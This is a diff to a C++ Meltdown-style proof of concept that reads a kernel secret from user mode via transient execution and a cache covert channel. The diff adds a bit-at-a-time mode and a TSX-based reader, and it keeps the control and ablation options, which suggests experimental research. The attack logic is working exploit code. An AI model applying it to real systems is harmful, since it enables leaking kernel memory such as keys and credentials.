@@ -1,9 +1,10 @@
 // SPDX-License-Identifier: MIT
 // Reads kernel memory from user mode, or tries to:
-//     meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch] [no-flush] [too-late]
+//     meltdown signal|mispredict|tsx BYTES ATTEMPTS [bitwise] [touch] [no-flush] [too-late]
 // First the control: the same code reads a buffer of its own whose content it does not know. Then
-// the kernel's secret. `touch` has the kernel use it before each byte. The other two leave out what
-// the attack needs: the channel's lines are not flushed, or the byte is sent too late.
+// the kernel's secret. `bitwise`: each attempt sends one bit, not the whole byte. `touch` has the
+// kernel use the secret before each byte. The other two leave out what the attack needs: the
+// channel's lines are not flushed, or the byte is sent too late.
 //
 // Standard output, a line each; values in hexadecimal, "--" if unknown; cycles of the time-stamp
 // counter:
@@ -38,6 +39,7 @@ struct Plan {
     std::unique_ptr<TransientReader> reader;
     std::size_t bytes = 0;
     unsigned attempts = 0;
+    Portion portion = Portion::Byte;
     bool touch = false;
     bool flush = true;
     const std::uint8_t* secret = nullptr;
@@ -48,31 +50,36 @@ struct Plan {
     std::exit(status);
 }
 
-std::unique_ptr<TransientReader> make_reader(const char* method, Sending sending) {
+std::unique_ptr<TransientReader> make_reader(const char* method, Portion portion, Sending sending) {
     if (std::strcmp(method, "signal") == 0) {
-        return make_signal_reader(sending);
+        return make_signal_reader(portion, sending);
     }
     if (std::strcmp(method, "mispredict") == 0) {
-        return make_mispredict_reader(sending);
+        return make_mispredict_reader(portion, sending);
     }
     if (std::strcmp(method, "tsx") != 0) {
         stop(wrong_arguments, "the method is signal, mispredict or tsx");
     }
-    stop(not_available, has_transactions() ? "this program does not use transactions yet"
-                                           : "this processor has no transactions (RTM)");
+    if (!has_transactions()) {
+        stop(not_available, "this processor has no transactions (RTM)");
+    }
+    return make_transaction_reader(portion, sending);
 }
 
 Plan make_plan(int count, char** arguments) {
     constexpr int least = 4;
     constexpr const char* usage =
-        "usage: meltdown signal|mispredict|tsx BYTES ATTEMPTS [touch] [no-flush] [too-late]";
+        "usage: meltdown signal|mispredict|tsx BYTES ATTEMPTS [bitwise] [touch] [no-flush] "
+        "[too-late]";
     if (count < least) {
         stop(wrong_arguments, usage);
     }
     Plan plan;
     Sending sending = Sending::InTime;
     for (int i = least; i < count; ++i) {
-        if (std::strcmp(arguments[i], "touch") == 0) {
+        if (std::strcmp(arguments[i], "bitwise") == 0) {
+            plan.portion = Portion::Bit;
+        } else if (std::strcmp(arguments[i], "touch") == 0) {
             plan.touch = true;
         } else if (std::strcmp(arguments[i], "no-flush") == 0) {
             plan.flush = false;
@@ -82,12 +89,11 @@ Plan make_plan(int count, char** arguments) {
             stop(wrong_arguments, usage);
         }
     }
-    plan.reader = make_reader(arguments[1], sending);
+    plan.reader = make_reader(arguments[1], plan.portion, sending);
     plan.bytes = std::strtoul(arguments[2], nullptr, 10);
     plan.attempts = static_cast<unsigned>(std::strtoul(arguments[3], nullptr, 10));
-    plan.secret =
-        reinterpret_cast<const std::uint8_t*>(read_number("/proc/ringfence/secret_address", 16));
-    if (plan.bytes == 0 || plan.bytes > read_number("/proc/ringfence/secret_length", 10)) {
+    plan.secret = reinterpret_cast<const std::uint8_t*>(read_fact("secret_address", 16));
+    if (plan.bytes == 0 || plan.bytes > read_fact("secret_length", 10)) {
         stop(wrong_arguments, "BYTES is at least 1 and at most the secret's length");
     }
     return plan;
@@ -118,6 +124,7 @@ Reading read_bytes(const Plan& plan, const CovertChannel& channel, const std::ui
                    bool readable, bool touch) {
     Reading reading;
     reading.guesses.reserve(plan.bytes);
+    channel.clear();
     const std::uint64_t start = time_before();
     for (std::size_t i = 0; i < plan.bytes; ++i) {
         if (touch) {
@@ -127,7 +134,7 @@ Reading read_bytes(const Plan& plan, const CovertChannel& channel, const std::ui
             }
         }
         reading.guesses.push_back(
-            read_byte(*plan.reader, channel, victim + i, readable, plan.attempts));
+            read_byte(*plan.reader, channel, {victim + i, readable, plan.portion}, plan.attempts));
     }
     reading.cycles = time_after() - start;
     return reading;
@@ -145,7 +152,7 @@ void print(const char* name, std::size_t index, const ByteGuess& guess) {
 
 int main(int count, char** arguments) {
     const Plan plan = make_plan(count, arguments);
-    CovertChannel channel(reinterpret_cast<std::uintptr_t>(plan.secret));
+    CovertChannel channel;
     const Calibration calibration = channel.calibrate();
     channel.set_flushing(plan.flush);
     std::printf("calibration %lu %lu %lu\n", calibration.hit, calibration.miss,
